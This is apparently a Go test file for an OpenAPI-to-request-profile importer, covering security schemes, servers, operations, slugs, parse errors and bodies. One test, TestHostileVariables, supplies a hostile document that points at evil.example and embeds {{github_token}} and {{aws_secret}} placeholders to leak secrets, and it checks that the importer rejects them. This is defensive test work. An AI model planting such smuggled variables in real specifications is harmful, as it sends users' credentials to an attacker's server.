package openapi

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/authlab/authlab/authn"
	"github.com/authlab/authlab/convert/collection"
	"github.com/authlab/authlab/profiles"
)

// schemeField returns the authn field name of scheme.
func schemeField(scheme, name string) (authn.Field, bool) {
	s, err := authn.Lookup(scheme)
	if err != nil {
		return authn.Field{}, false
	}
	return s.Info().Field(name)
}

func statusOf(ex authn.Exchange) any {
	if ex.Response == nil {
		return ex.Err
	}
	return ex.Response.Status
}

func profileNamed(ps []profiles.Profile, name string) profiles.Profile {
	for _, p := range ps {
		if p.Name == name {
			return p
		}
	}
	return profiles.Profile{}
}

// oneOp is a document with one operation GET /things whose security is
// security (YAML flow text) and the given securitySchemes (YAML, indented
// by 4).
func oneOp(security, schemes string) string {
	return fmt.Sprintf(`openapi: 3.0.3
info: {title: Example API, version: "1"}
servers: [{url: "https://api.example.com/v1"}]
paths:
  /things:
    get:
      operationId: listThings
      security: %s
components:
  securitySchemes:
%s`, security, schemes)
}

func mustImport(t *testing.T, doc string, o Options) collection.Result {
	t.Helper()
	r, err := Import([]byte(doc), o)
	if err != nil {
		t.Fatalf("Import: %v\n%s", err, doc)
	}
	checkInvariants(t, r)
	return r
}

// checkInvariants holds for every Result: names valid and unique, schemes
// known, every secret field a reference, every Unmapped profile a profile.
func checkInvariants(t *testing.T, r collection.Result) {
	t.Helper()
	names := map[string]bool{}
	for _, p := range r.Profiles {
		if err := profiles.ValidateName(p.Name); err != nil {
			t.Errorf("profile name %q: %v", p.Name, err)
		}
		if names[p.Name] {
			t.Errorf("profile name %q repeats", p.Name)
		}
		names[p.Name] = true
		if _, err := authn.Lookup(p.Scheme); err != nil {
			t.Errorf("profile %s: scheme %q: %v", p.Name, p.Scheme, err)
		}
		for k, v := range p.Fields {
			f, ok := schemeField(p.Scheme, k)
			if !ok {
				t.Errorf("profile %s: field %q is not a field of %s", p.Name, k, p.Scheme)
			}
			if f.Secret && !profiles.IsRef(v) {
				t.Errorf("profile %s: secret field %s = %q; want a reference", p.Name, k, v)
			}
		}
		if !strings.HasPrefix(p.URL, "{{base_url}}") && !strings.HasPrefix(p.URL, "https://") && !strings.HasPrefix(p.URL, "http://") {
			t.Errorf("profile %s: URL %q starts with neither {{base_url}} nor its own server", p.Name, p.URL)
		}
	}
	for _, u := range r.Unmapped {
		if u.Profile != "" && !names[u.Profile] {
			t.Errorf("Unmapped names profile %q, which is not in the result", u.Profile)
		}
	}
	for _, e := range r.Environments {
		for _, v := range e.Vars {
			if v.Name == "practice" {
				t.Errorf("environment %s defines the built-in variable practice", e.Name)
			}
			if v.Secret && !profiles.IsRef(v.Value) {
				t.Errorf("environment %s: secret %s = %q; want a reference", e.Name, v.Name, v.Value)
			}
		}
	}
}

// envVar returns the value of name in the result's first environment.
func envVar(r collection.Result, name string) (string, bool) {
	if len(r.Environments) == 0 {
		return "", false
	}
	for _, v := range r.Environments[0].Vars {
		if v.Name == name {
			return v.Value, true
		}
	}
	return "", false
}

var schemeTests = []struct {
	name     string
	security string
	schemes  string
	scheme   string
	fields   map[string]string
	headers  []profiles.Header
	urlTail  string // what the URL ends with
	full     bool
	unmapped string // part of the Unmapped text when not full
	desc     string // part of the description
}{
	{name: "apiKey header", security: "[{key: []}]", schemes: "    key: {type: apiKey, in: header, name: X-API-Key}\n",
		scheme: "apikey", fields: map[string]string{"name": "X-API-Key", "in": "header", "value": "env:EXAMPLE_API_KEY"}, urlTail: "/things", full: true},
	{name: "apiKey query", security: "[{key: []}]", schemes: "    key: {type: apiKey, in: query, name: api_key}\n",
		scheme: "apikey", fields: map[string]string{"name": "api_key", "in": "query", "value": "env:EXAMPLE_API_KEY"}, urlTail: "/things", full: true},
	{name: "apiKey cookie", security: "[{sess: []}]", schemes: "    sess: {type: apiKey, in: cookie, name: SESSIONID}\n",
		scheme: "none", headers: []profiles.Header{{Name: "Cookie", Value: "SESSIONID={{sess}}"}}, urlTail: "/things", full: true},
	{name: "apiKey bad in", security: "[{key: []}]", schemes: "    key: {type: apiKey, in: body, name: k}\n",
		scheme: "none", unmapped: `in "body" is not header, query or cookie`},
	{name: "basic", security: "[{b: []}]", schemes: "    b: {type: http, scheme: basic}\n",
		scheme: "basic", fields: map[string]string{"username": "{{b_username}}", "password": "env:EXAMPLE_PASSWORD"}, full: true},
	{name: "Basic upper case", security: "[{b: []}]", schemes: "    b: {type: http, scheme: Basic}\n",
		scheme: "basic", fields: map[string]string{"username": "{{b_username}}", "password": "env:EXAMPLE_PASSWORD"}, full: true},
	{name: "bearer JWT", security: "[{t: []}]", schemes: "    t: {type: http, scheme: bearer, bearerFormat: JWT}\n",
		scheme: "bearer", fields: map[string]string{"token": "env:EXAMPLE_TOKEN"}, full: true, desc: "the token is a JWT"},
	{name: "digest", security: "[{d: []}]", schemes: "    d: {type: http, scheme: digest}\n",
		scheme: "digest", fields: map[string]string{"username": "{{d_username}}", "password": "env:EXAMPLE_PASSWORD"}, full: true},
	{name: "ntlm", security: "[{w: []}]", schemes: "    w: {type: http, scheme: NTLM}\n",
		scheme: "ntlm", fields: map[string]string{"username": "{{w_username}}", "password": "env:EXAMPLE_PASSWORD"}, full: true, desc: "-c domain=NAME"},
	{name: "negotiate", security: "[{n: []}]", schemes: "    n: {type: http, scheme: negotiate}\n",
		scheme: "none", unmapped: "Negotiate"},
	{name: "hoba", security: "[{h: []}]", schemes: "    h: {type: http, scheme: hoba}\n",
		scheme: "none", unmapped: `"hoba": authlab has no such scheme`},
	{name: "oauth2 client credentials", security: "[{o: [read, write]}]",
		schemes: "    o: {type: oauth2, flows: {clientCredentials: {tokenUrl: 'https://auth.example.com/token', scopes: {read: r, write: w}}}}\n",
		scheme:  "oauth2", fields: map[string]string{"grant": "client_credentials", "token_url": "https://auth.example.com/token", "client_id": "{{o_client_id}}", "client_secret": "env:EXAMPLE_CLIENT_SECRET", "scope": "read write"}, full: true},
	{name: "oauth2 authorization code", security: "[{o: [read]}]",
		schemes: "    o: {type: oauth2, flows: {implicit: {authorizationUrl: 'https://a/x', scopes: {}}, authorizationCode: {authorizationUrl: 'https://auth.example.com/authorize', tokenUrl: 'https://auth.example.com/token', refreshUrl: 'https://auth.example.com/refresh', scopes: {read: r}}}}\n",
		scheme:  "oauth2", fields: map[string]string{"grant": "authorization_code", "auth_url": "https://auth.example.com/authorize", "token_url": "https://auth.example.com/token", "client_id": "{{o_client_id}}", "scope": "read"}, full: true,
		desc: "other flows in the document: implicit"},
	{name: "oauth2 password", security: "[{o: []}]",
		schemes: "    o: {type: oauth2, flows: {password: {tokenUrl: /oauth/token, scopes: {}}}}\n",
		scheme:  "oauth2", fields: map[string]string{"grant": "password", "token_url": "https://api.example.com/oauth/token", "client_id": "{{o_client_id}}", "client_secret": "env:EXAMPLE_CLIENT_SECRET", "username": "{{o_username}}", "password": "env:EXAMPLE_PASSWORD"}, full: true},
	{name: "oauth2 relative token URL below the server's path", security: "[{o: []}]",
		schemes: "    o: {type: oauth2, flows: {clientCredentials: {tokenUrl: oauth/token, scopes: {}}}}\n",
		scheme:  "oauth2", fields: map[string]string{"grant": "client_credentials", "token_url": "{{base_url}}/oauth/token", "client_id": "{{o_client_id}}", "client_secret": "env:EXAMPLE_CLIENT_SECRET"}, full: true},
	{name: "oauth2 device (3.2)", security: "[{o: []}]",
		schemes: "    o: {type: oauth2, flows: {deviceAuthorization: {deviceAuthorizationUrl: 'https://auth.example.com/device', tokenUrl: 'https://auth.example.com/token', scopes: {}}}}\n",
		scheme:  "oauth2", fields: map[string]string{"grant": "device_code", "device_auth_url": "https://auth.example.com/device", "token_url": "https://auth.example.com/token", "client_id": "{{o_client_id}}"}, full: true},
	{name: "oauth2 implicit only", security: "[{o: []}]",
		schemes: "    o: {type: oauth2, flows: {implicit: {authorizationUrl: 'https://auth.example.com/authorize', scopes: {}}}}\n",
		scheme:  "none", unmapped: "RFC 9700"},
	{name: "oauth2 no token URL", security: "[{o: []}]",
		schemes: "    o: {type: oauth2, flows: {clientCredentials: {scopes: {}}}}\n",
		scheme:  "none", unmapped: "has no tokenUrl"},
	{name: "openIdConnect without discovery", security: "[{oidc: [profile]}]",
		schemes: "    oidc: {type: openIdConnect, openIdConnectUrl: 'https://auth.example.com/.well-known/openid-configuration'}\n",
		scheme:  "oauth2", fields: map[string]string{"grant": "authorization_code", "client_id": "{{oidc_client_id}}", "scope": "openid profile"}, unmapped: "token_url and auth_url unknown"},
	{name: "mutualTLS", security: "[{m: []}]", schemes: "    m: {type: mutualTLS}\n",
		scheme: "none", full: true, desc: "tls.cert"},
	{name: "unknown type", security: "[{x: []}]", schemes: "    x: {type: hawk}\n",
		scheme: "none", unmapped: `type "hawk"`},
	{name: "undefined scheme", security: "[{missing: []}]", schemes: "    x: {type: mutualTLS}\n",
		scheme: "none", unmapped: `"missing" is not defined`},
	{name: "scheme by $ref", security: "[{key: []}]", schemes: "    key: {$ref: '#/components/securitySchemes/real'}\n    real: {type: apiKey, in: header, name: X-Key}\n",
		scheme: "apikey", fields: map[string]string{"name": "X-Key", "in": "header", "value": "env:EXAMPLE_API_KEY"}, full: true},
	{name: "scheme by $ref with 3.1 siblings", security: "[{key: []}]", schemes: "    key: {$ref: '#/components/securitySchemes/real', description: the key, summary: k}\n    real: {type: apiKey, in: query, name: k}\n",
		scheme: "apikey", fields: map[string]string{"name": "k", "in": "query", "value": "env:EXAMPLE_API_KEY"}, full: true},
	{name: "scheme $ref loop", security: "[{a: []}]", schemes: "    a: {$ref: '#/components/securitySchemes/b'}\n    b: {$ref: '#/components/securitySchemes/a'}\n",
		scheme: "none", unmapped: "$ref loop"},
	{name: "scheme external $ref", security: "[{a: []}]", schemes: "    a: {$ref: 'schemes.yaml#/a'}\n",
		scheme: "none", unmapped: "another file"},
	{name: "basic AND apiKey header", security: "[{b: [], key: []}]", schemes: "    b: {type: http, scheme: basic}\n    key: {type: apiKey, in: header, name: X-App-Key}\n",
		scheme: "basic", fields: map[string]string{"username": "{{b_username}}", "password": "env:EXAMPLE_PASSWORD"},
		headers: []profiles.Header{{Name: "X-App-Key", Value: "{{key}}"}}, full: true},
	{name: "two API keys AND", security: "[{id: [], key: []}]", schemes: "    id: {type: apiKey, in: header, name: X-App-Id}\n    key: {type: apiKey, in: query, name: key}\n",
		scheme: "apikey", fields: map[string]string{"name": "X-App-Id", "in": "header", "value": "env:EXAMPLE_API_KEY"}, urlTail: "/things?key={{key}}", full: true},
	{name: "basic AND bearer", security: "[{b: [], t: []}]", schemes: "    b: {type: http, scheme: basic}\n    t: {type: http, scheme: bearer}\n",
		scheme: "none", unmapped: "required together"},
	{name: "alternatives: first unusable, second chosen", security: "[{n: []}, {t: []}]", schemes: "    n: {type: http, scheme: negotiate}\n    t: {type: http, scheme: bearer}\n",
		scheme: "bearer", fields: map[string]string{"token": "env:EXAMPLE_TOKEN"}, full: true},
	{name: "alternatives: first chosen, second named", security: "[{t: []}, {b: []}]", schemes: "    t: {type: http, scheme: bearer}\n    b: {type: http, scheme: basic}\n",
		scheme: "bearer", fields: map[string]string{"token": "env:EXAMPLE_TOKEN"}, full: true, desc: "also accepted: b"},
	{name: "anonymous first: a scheme still chosen", security: "[{}, {t: []}]", schemes: "    t: {type: http, scheme: bearer}\n",
		scheme: "bearer", fields: map[string]string{"token": "env:EXAMPLE_TOKEN"}, full: true, desc: "authentication is optional"},
	{name: "anonymous beside an unusable one", security: "[{n: []}, {}]", schemes: "    n: {type: http, scheme: negotiate}\n",
		scheme: "none", full: true},
	{name: "empty security", security: "[]", schemes: "    t: {type: http, scheme: bearer}\n",
		scheme: "none", full: true, desc: "security: []"},
}

func TestSchemes(t *testing.T) {
	for _, tt := range schemeTests {
		t.Run(tt.name, func(t *testing.T) {
			r := mustImport(t, oneOp(tt.security, tt.schemes), Options{})
			if len(r.Profiles) != 1 {
				t.Fatalf("%d profiles; want 1", len(r.Profiles))
			}
			p := r.Profiles[0]
			if p.Scheme != tt.scheme {
				t.Errorf("Scheme = %q; want %q (unmapped %v)", p.Scheme, tt.scheme, r.Unmapped)
			}
			if tt.fields != nil && !maps.Equal(p.Fields, tt.fields) {
				t.Errorf("Fields = %v; want %v", p.Fields, tt.fields)
			}
			if !slices.Equal(p.Headers, tt.headers) {
				t.Errorf("Headers = %v; want %v", p.Headers, tt.headers)
			}
			if tt.urlTail != "" && p.URL != "{{base_url}}"+tt.urlTail {
				t.Errorf("URL = %q; want %q", p.URL, "{{base_url}}"+tt.urlTail)
			}
			full, _ := r.Full()
			if (full == 1) != tt.full {
				t.Errorf("mapped fully = %v; want %v (unmapped %v)", full == 1, tt.full, r.Unmapped)
			}
			if tt.unmapped != "" {
				found := false
				for _, u := range r.Unmapped {
					found = found || strings.Contains(u.What, tt.unmapped)
				}
				if !found {
					t.Errorf("Unmapped = %v; want one saying %q", r.Unmapped, tt.unmapped)
				}
			}
			if !strings.Contains(p.Description, tt.desc) {
				t.Errorf("Description = %q; want it to say %q", p.Description, tt.desc)
			}
		})
	}
}

// TestCookieKeyVariable: a cookie API key's variable is an env: reference
// marked secret, in every environment.
func TestCookieKeyVariable(t *testing.T) {
	r := mustImport(t, oneOp("[{sess: []}]", "    sess: {type: apiKey, in: cookie, name: SESSIONID}\n"), Options{})
	v, ok := envVar(r, "sess")
	if !ok || v != "env:EXAMPLE_API_KEY" {
		t.Errorf("variable sess = %q, %v; want env:EXAMPLE_API_KEY", v, ok)
	}
	if !slices.ContainsFunc(r.Notes, func(n string) bool { return strings.Contains(n, "cookie") }) {
		t.Errorf("Notes = %q; want one about the cookie", r.Notes)
	}
}

// TestSecretNamesDistinct: two schemes of the same kind get different
// environment variables.
func TestSecretNamesDistinct(t *testing.T) {
	doc := oneOp("[{a: [], b: []}]", "    a: {type: apiKey, in: header, name: X-App-Id}\n    b: {type: apiKey, in: header, name: X-Api-Key}\n")
	r := mustImport(t, doc, Options{})
	a, _ := envVar(r, "a")
	b, _ := envVar(r, "b")
	if a == b {
		t.Errorf("both API keys read %q; want two variables", a)
	}
}

var overrideTests = []struct {
	name     string
	top, op  string // YAML for the top-level and operation security ("" = absent)
	scheme   string
	wantDesc string
}{
	{"top level applies", "[{t: []}]", "", "bearer", ""},
	{"operation replaces top level", "[{t: []}]", "[{b: []}]", "basic", ""},
	{"empty list removes it", "[{t: []}]", "[]", "none", "security: []"},
	{"none anywhere", "", "", "none", ""},
	{"operation only", "", "[{b: []}]", "basic", ""},
}

func TestSecurityOverride(t *testing.T) {
	for _, tt := range overrideTests {
		t.Run(tt.name, func(t *testing.T) {
			var b strings.Builder
			b.WriteString("openapi: 3.1.0\ninfo: {title: T, version: '1'}\nservers: [{url: 'https://api.example.com'}]\n")
			if tt.top != "" {
				b.WriteString("security: " + tt.top + "\n")
			}
			b.WriteString("paths:\n  /x:\n    get:\n      responses: {}\n")
			if tt.op != "" {
				b.WriteString("      security: " + tt.op + "\n")
			}
			b.WriteString("components:\n  securitySchemes:\n    t: {type: http, scheme: bearer}\n    b: {type: http, scheme: basic}\n")
			r := mustImport(t, b.String(), Options{})
			p := r.Profiles[0]
			if p.Scheme != tt.scheme {
				t.Errorf("Scheme = %q; want %q", p.Scheme, tt.scheme)
			}
			if !strings.Contains(p.Description, tt.wantDesc) {
				t.Errorf("Description = %q; want %q", p.Description, tt.wantDesc)
			}
		})
	}
}

// TestOperations: names, groups, path and query variables, defaults,
// path-level parameters and $ref'd parameters and path items.
func TestOperations(t *testing.T) {
	doc := `openapi: 3.1.0
info: {title: Pets, version: "1"}
servers:
  - url: "https://{region}.pets.example.com/{base}"
    description: Production
    variables:
      region: {default: eu, enum: [eu, us]}
      base: {default: v2}
  - url: https://sandbox.pets.example.com/v2
    description: Sandbox
paths:
  /pets:
    get:
      tags: [pets]
      operationId: listPets
      parameters:
        - {name: limit, in: query, required: true, schema: {type: [integer, "null"], default: 20}}
        - {name: X-Request-Id, in: header, required: true, example: abc}
        - {name: Accept, in: header, required: true}
        - {name: page, in: query}
    post:
      tags: [pets]
  /pets/{pet-id}:
    parameters:
      - $ref: '#/components/parameters/PetId'
    get:
      tags: [pets]
      operationId: pets.get
    delete:
      operationId: deletePet
  /owners/{id}:
    $ref: '#/components/pathItems/Owner'
  /loop:
    $ref: '#/components/pathItems/Loop'
  /:
    get: {}
webhooks:
  newPet: {post: {}}
components:
  parameters:
    PetId: {name: pet-id, in: path, required: true, schema: {$ref: '#/components/schemas/Id'}}
  schemas:
    Id: {type: string, examples: ["42"]}
  pathItems:
    Owner:
      get: {operationId: getOwner, tags: [owners]}
    Loop: {$ref: '#/components/pathItems/Loop'}
`
	r := mustImport(t, doc, Options{})
	if r.Format != "OpenAPI 3.1" {
		t.Errorf("Format = %q; want OpenAPI 3.1", r.Format)
	}
	want := []struct{ name, method, url string }{
		{"pets/list-pets", "GET", "{{base_url}}/pets?limit={{limit}}"},
		{"pets/post-pets", "POST", "{{base_url}}/pets"},
		{"pets/get", "GET", "{{base_url}}/pets/{{pet_id}}"},
		{"pets/delete-pet", "DELETE", "{{base_url}}/pets/{{pet_id}}"},
		{"owners/get-owner", "GET", "{{base_url}}/owners/{{id}}"},
		{"get", "GET", "{{base_url}}/"},
	}
	var got []string
	for _, p := range r.Profiles {
		got = append(got, p.Method+" "+p.Name+" "+p.URL)
	}
	var wants []string
	for _, w := range want {
		wants = append(wants, w.method+" "+w.name+" "+w.url)
	}
	if !slices.Equal(got, wants) {
		t.Errorf("profiles =\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(wants, "\n"))
	}
	if h := r.Profiles[0].Headers; !slices.Equal(h, []profiles.Header{{Name: "X-Request-Id", Value: "{{X_Request_Id}}"}}) {
		t.Errorf("headers = %v; want X-Request-Id only (Accept is ignored, §4.8.12.1)", h)
	}
	for name, want := range map[string]string{"base_url": "https://eu.pets.example.com/v2", "limit": "20", "X_Request_Id": "abc", "pet_id": "42"} {
		if v, ok := envVar(r, name); !ok || v != want {
			t.Errorf("variable %s = %q, %v; want %q", name, v, ok, want)
		}
	}
	if len(r.Environments) != 2 || r.Environments[0].Name != "pets-production" || r.Environments[1].Name != "pets-sandbox" {
		t.Errorf("environments = %v; want pets-production, pets-sandbox", r.Environments)
	} else if r.Environments[1].Vars[0].Value != "https://sandbox.pets.example.com/v2" {
		t.Errorf("sandbox base_url = %q", r.Environments[1].Vars[0].Value)
	}
	notes := strings.Join(r.Notes, "\n")
	for _, want := range []string{"webhooks: 1 ignored", "also allows us", "variables without an example in the document: id"} {
		if !strings.Contains(notes, want) {
			t.Errorf("Notes = %s; want %q", notes, want)
		}
	}
	if !slices.ContainsFunc(r.Unmapped, func(u collection.Unmapped) bool { return strings.Contains(u.What, "loop") && u.Where == "paths./loop" }) {
		t.Errorf("Unmapped = %v; want the /loop path item's $ref loop", r.Unmapped)
	}
}

var slugTests = []struct{ in, want string }{
	{"listPets", "list-pets"},
	{"getHTTPInfo", "get-http-info"},
	{"OAuth2", "oauth2"},
	{"oAuth2", "oauth2"},
	{"repos/get-content", "repos-get-content"},
	{"Pet Store", "pet-store"},
	{"  ", ""},
	{"ÜberCool", "ber-cool"},
	{"v1.users.list", "v1-users-list"},
}

func TestSlug(t *testing.T) {
	for _, tt := range slugTests {
		if got := slug(tt.in); got != tt.want {
			t.Errorf("slug(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}

var errorTests = []struct {
	name, doc, want string
}{
	{"swagger 2", `{"swagger": "2.0", "info": {}}`, "Swagger 2.0"},
	{"no openapi", "info: {title: x}\n", "no openapi field"},
	{"openapi 4", "openapi: 4.0.0\n", "not a version authlab reads"},
	{"empty", "  \n", "empty"},
	{"a list", "- a\n- b\n", "not a JSON or YAML object"},
	{"bad JSON", `{"openapi": "3.0.0",`, "not valid JSON"},
	{"bad YAML", "openapi: [3.0\n", "neither JSON nor valid YAML"},
	{"json trailing text", `{"openapi": "3.0.0"} x`, "after the end"},
}

func TestErrors(t *testing.T) {
	for _, tt := range errorTests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Import([]byte(tt.doc), Options{})
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("Import(%q) error = %v; want one saying %q", tt.doc, err, tt.want)
			}
			if strings.Contains(err.Error(), "\n") {
				t.Errorf("error %q is more than one line", err)
			}
		})
	}
}

// TestOwnServers: an operation's or path item's servers replace the
// document's for it (§4.8.10); a relative one is noted and base_url kept.
func TestOwnServers(t *testing.T) {
	doc := `openapi: 3.0.3
info: {title: T, version: "1"}
servers: [{url: "https://api.example.com"}]
paths:
  /upload:
    servers: [{url: "https://{zone}.uploads.example.com/", variables: {zone: {default: eu}}}]
    post: {operationId: upload}
    put:
      operationId: replace
      servers: [{url: "https://put.example.com"}]
  /rel:
    get:
      operationId: rel
      servers: [{url: /other}]
  /plain:
    get: {operationId: plain}
`
	r := mustImport(t, doc, Options{})
	want := map[string]string{
		"upload/upload":  "https://eu.uploads.example.com/upload",
		"upload/replace": "https://put.example.com/upload",
		"rel/rel":        "{{base_url}}/rel",
		"plain/plain":    "{{base_url}}/plain",
	}
	for _, p := range r.Profiles {
		if p.URL != want[p.Name] {
			t.Errorf("%s: URL = %q; want %q", p.Name, p.URL, want[p.Name])
		}
	}
	if !strings.Contains(strings.Join(r.Notes, "\n"), "/other, which is not an absolute URL") {
		t.Errorf("Notes = %q; want the relative server noted", r.Notes)
	}
}

// TestHostileVariables: document text that would read as a {{variable}}
// (and so could carry a variable of the user's environment to the
// document's server) is not imported.
func TestHostileVariables(t *testing.T) {
	doc := `openapi: 3.0.3
info: {title: T, version: "1"}
servers: [{url: "https://evil.example/?t={{github_token}}"}, {url: "https://api.example.com"}]
x-paths-extension: {get: {}}
paths:
  /steal/{{github_token}}:
    get: {}
  /ok:
    get:
      parameters: [{name: "Bad Header", in: header, required: true}]
      security: [{o: []}]
components:
  securitySchemes:
    o: {type: oauth2, flows: {clientCredentials: {tokenUrl: "https://evil.example/{{aws_secret}}", scopes: {}}}}
`
	r := mustImport(t, doc, Options{})
	for _, p := range r.Profiles {
		all := p.URL + fmt.Sprint(p.Fields) + fmt.Sprint(p.Headers)
		if strings.Contains(all, "github_token") || strings.Contains(all, "aws_secret") || strings.Contains(all, "evil") {
			t.Errorf("profile %s carries the document's variable: %s", p.Name, all)
		}
	}
	if len(r.Profiles) != 1 || r.Profiles[0].Name != "ok/get-ok" {
		t.Errorf("profiles = %v; want ok/get-ok only", r.Profiles)
	}
	if v, _ := envVar(r, "base_url"); v != "https://api.example.com" {
		t.Errorf("base_url = %q; want the second server", v)
	}
	if full, _ := r.Full(); full != 0 {
		t.Errorf("ok/get-ok mapped fully; want Unmapped (bad header, bad token URL)")
	}
}

var bodyTests = []struct {
	name, requestBody, want, contentType string
}{
	{"media example, YAML types kept", `{content: {application/json: {example: {name: Rex, age: 3, good: true, tag: "7", none: null, list: [1, "a"]}}}}`,
		`{"name":"Rex","age":3,"good":true,"tag":"7","none":null,"list":[1,"a"]}`, "application/json"},
	{"first of examples", `{content: {application/problem+json: {examples: {a: {value: {x: 1}}, b: {value: {x: 2}}}}}}`, `{"x":1}`, "application/problem+json"},
	{"schema example by $ref", `{content: {application/json: {schema: {$ref: '#/components/schemas/Pet'}}}}`, `{"name":"Tom"}`, "application/json"},
	{"no example: no body", `{content: {application/json: {schema: {type: object}}}}`, "", ""},
	{"form only: no body", `{content: {application/x-www-form-urlencoded: {example: {a: b}}}}`, "", ""},
}

func TestBodies(t *testing.T) {
	for _, tt := range bodyTests {
		t.Run(tt.name, func(t *testing.T) {
			doc := `openapi: 3.0.3
info: {title: T, version: "1"}
servers: [{url: "https://api.example.com"}]
paths:
  /pets:
    post:
      requestBody: ` + tt.requestBody + `
components:
  schemas:
    Pet: {type: object, example: {name: Tom}}
`
			r := mustImport(t, doc, Options{})
			p := r.Profiles[0]
			if p.Body != tt.want {
				t.Errorf("Body = %q; want %q", p.Body, tt.want)
			}
			var ct string
			for _, h := range p.Headers {
				if h.Name == "Content-Type" {
					ct = h.Value
				}
			}
			if ct != tt.contentType {
				t.Errorf("Content-Type = %q; want %q", ct, tt.contentType)
			}
		})
	}
}
